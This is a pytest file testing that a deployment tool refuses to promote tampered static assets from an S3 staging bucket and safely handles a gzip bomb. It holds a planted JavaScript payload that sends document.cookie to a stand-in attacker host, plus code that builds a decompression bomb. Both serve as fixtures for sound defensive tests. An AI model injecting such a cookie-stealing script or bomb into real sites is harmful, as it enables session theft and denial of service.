"""Objects someone else wrote into a bucket after the build: never copied, never read whole.

Anyone who may write the staging bucket after its build can put other bytes under a hashed,
immutable name. ``promote_static`` copies server-side only on the condition that the source's
ETag is the MD5 the static cache records, reads anything else no further than its recorded size,
and checks every copy before the release may go on; ``verify_static`` reads an object no further
than its recorded size either, and decodes gzip as a stream, so a small gzip bomb costs nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zlib

import pytest

from conftest import deploy_config
from support.checkout import command_env, example_checkout
from support.s3server import stored_objects

PREFIX = "static"
EVIL = b"fetch('https://evil.example/?c='+document.cookie);\n"


def staging(make_slug, server):
    """The staging app's slug, built and published to its own bucket A."""
    slug = make_slug()
    with open(os.path.join(slug.build_dir, "Procfile"), "a") as handle:
        handle.write("release: python manage.py promote_static\n")
    bucket = server.bucket()
    slug.set_config(**deploy_config(server, bucket, AWS_LOCATION=PREFIX))
    built = slug.compile()
    assert built.returncode == 0, built.output
    return slug, bucket


def cache_of(slug) -> dict:
    with open(os.path.join(slug.build_dir, "static_cache", "manifest.json")) as handle:
        return json.load(handle)


def plant(server, bucket: str, cache: dict, body_size: int | None = None) -> str:
    """Replace the bytes of js/app.js's hashed object in bucket A: a script of the recorded
    size (``body_size`` None), or a larger one."""
    hashed = cache["paths"]["js/app.js"]
    size = cache["objects"][hashed]["size"]
    body = (EVIL * (size // len(EVIL) + 1))[:size] if body_size is None else EVIL * body_size
    server.client().put_object(
        Bucket=bucket, Key=f"{PREFIX}/{hashed}", Body=body, ContentType="text/javascript"
    )
    return hashed


#: How each server treats the copy's condition, and what the test plants there: SeaweedFS
#: refuses the copy (412), and the object, read through its public URL, stops at the recorded
#: size; Ceph RGW copies it anyway (it reads the condition as ``x-amz-copy-if-match``), and the
#: check after the copy finds the other MD5 and deletes it.
PLANTED = {
    "seaweedfs": (50, "it is larger than the {size} bytes the static cache records"),
    "ceph": (None, "its MD5 is "),
}


@pytest.mark.parametrize("anys3", list(PLANTED), indirect=True)
def test_an_object_replaced_in_the_source_is_never_released(make_slug, anys3, tmp_path):
    slug, bucket_a = staging(make_slug, anys3)
    cache = cache_of(slug)
    body_size, why = PLANTED[anys3.name]
    hashed = plant(anys3, bucket_a, cache, body_size)
    why = why.format(size=cache["objects"][hashed]["size"])
    bucket_b = anys3.bucket()
    production = slug.promoted(
        str(tmp_path / "production"), deploy_config(anys3, bucket_b, AWS_LOCATION=PREFIX)
    )
    released = production.release_phase()
    assert released.returncode != 0, released.output
    source = f"s3://{bucket_a}/{PREFIX}/ at {anys3.endpoint}"
    if anys3.name == "seaweedfs":  # the condition held: not copied, read no further than it is
        assert f"do not show the recorded MD5 as their ETag ({hashed})" in released.stdout
        url = f"{anys3.endpoint}/{bucket_a}/{PREFIX}/{hashed}"
        assert f"Cannot copy {url}: {why}." in released.stderr
        assert "It is not the object its build published" in released.stderr
    else:  # copied despite it: the check after the copy
        assert f"The copy of {hashed} from {source} is not the object the static cache " in (
            released.stderr
        )
        assert f"records: {why}" in released.stderr
        assert f"the copies were deleted from s3://{bucket_b}/{PREFIX}/" in released.stderr
    assert "The release was stopped" in released.stderr
    in_b = stored_objects(anys3.client(), bucket_b)
    assert f"{PREFIX}/{hashed}" not in in_b
    # Every other object was copied server-side, as recorded.
    for name, entry in cache["objects"].items():
        if name != hashed:
            assert in_b[f"{PREFIX}/{name}"] == (entry["size"], entry["md5"]), name


MAX_RSS = (
    "import resource, subprocess, sys\n"
    "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
    "sys.stdout.write(done.stdout)\n"
    "sys.stderr.write(done.stderr)\n"
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
    "sys.exit(done.returncode)\n"
)


def test_verify_static_reads_a_gzip_bomb_no_further_than_the_recorded_size(
    tmp_path, s3server, bucket
):
    app = example_checkout(tmp_path)
    env = command_env(deploy_config(s3server, bucket, AWS_LOCATION=PREFIX))

    def manage(*args: str) -> subprocess.CompletedProcess:
        command = [sys.executable, "-c", MAX_RSS, sys.executable, "manage.py", *args]
        return subprocess.run(command, cwd=app, env=env, capture_output=True, text=True)

    assert manage("publish_static").returncode == 0
    cache = json.loads((app / "static_cache" / "manifest.json").read_text())
    name = next(n for n, o in sorted(cache["objects"].items()) if o.get("encoding") == "gzip")
    bomb = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    body = b"".join(bomb.compress(bytes(1 << 20)) for _ in range(300)) + bomb.flush()
    s3server.client().put_object(
        Bucket=bucket, Key=f"{PREFIX}/{name}", Body=body, ContentEncoding="gzip"
    )
    verified = manage("verify_static")
    assert verified.returncode == 1, verified.stdout + verified.stderr
    size = cache["objects"][name]["size"]
    assert f"  - {name}: it is larger than the {size} bytes the static cache records" in (
        verified.stderr
    )
    peak_kib = int(verified.stderr.strip().splitlines()[-1])
    assert peak_kib < 200 * 1024, f"verify_static peaked at {peak_kib} KiB"  # 300 MiB decoded
